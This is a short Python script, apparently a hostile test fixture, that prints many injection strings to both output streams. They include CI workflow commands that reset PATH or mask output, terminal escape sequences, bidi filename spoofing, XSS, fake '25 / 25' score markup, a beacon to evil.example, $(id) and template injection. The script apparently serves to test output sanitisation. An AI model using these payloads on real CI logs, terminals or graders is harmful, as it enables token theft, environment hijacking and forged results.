"""Commands whoever reads its output: a workflow's log, a terminal, a page, a table."""

import sys

COMMANDS = [
    "::error file=app/main.py,line=1::pwned", "::warning::pwned", "::notice::pwned", "::debug::pwned", "::group::pwned", "::endgroup::",
    "::add-mask::0", "::add-mask::passed", "::save-state name=a::b", "::set-output name=a::b", "::set-env name=PATH::/tmp", "::add-path::/tmp",
    "::stop-commands::x", "::x::", "::echo::on", "##[error]pwned", "##[command]id", "##[set-output name=a]b", "##vso[task.setvariable variable=a]b",
    "::eRRoR::mixed", "   ::error::indented", "\t::error::tab", "\u00a0::error::space", "\u2028::error::separator", "\x85::error::next line",
    "\x0b::error::vertical", "\x0c::error::form", "\r::error::return", "\x1b[0m::error::colour", "\ufeff::error::mark",
    "\x1b[2J\x1b[H\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x9b2J\x9d0;owned\x9c", "\x1bP+q544e\x1b\\",
    "\x1b[31mred\x1b[0m", "a\b\b\bb", "\x7f\x00\x01", "\u202egnp.exe\u202c", "\u2066hidden\u2069",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</pre></code><h1>100 %</h1>", "```\n# 25 / 25\n```", "~~~\n# 25 / 25", "| a | b |\n|---|---|",
    "<details open><summary>25 / 25</summary>", "<!-- ", "@everyone", "[25/25](http://evil.example)", "![](http://evil.example/beacon)", "=1+1", "$(id)", "{{7*7}}", "${{ github.token }}",
]
for stream in (sys.stdout.buffer, sys.stderr.buffer):
    for command in COMMANDS:
        for end in (b"\n", b"\r\n", b"\r"):
            stream.write(command.encode() + end)
    for byte in b"\n::error::split writes\n":
        stream.write(bytes([byte]))
        stream.flush()
raise SystemExit("::error::last words")
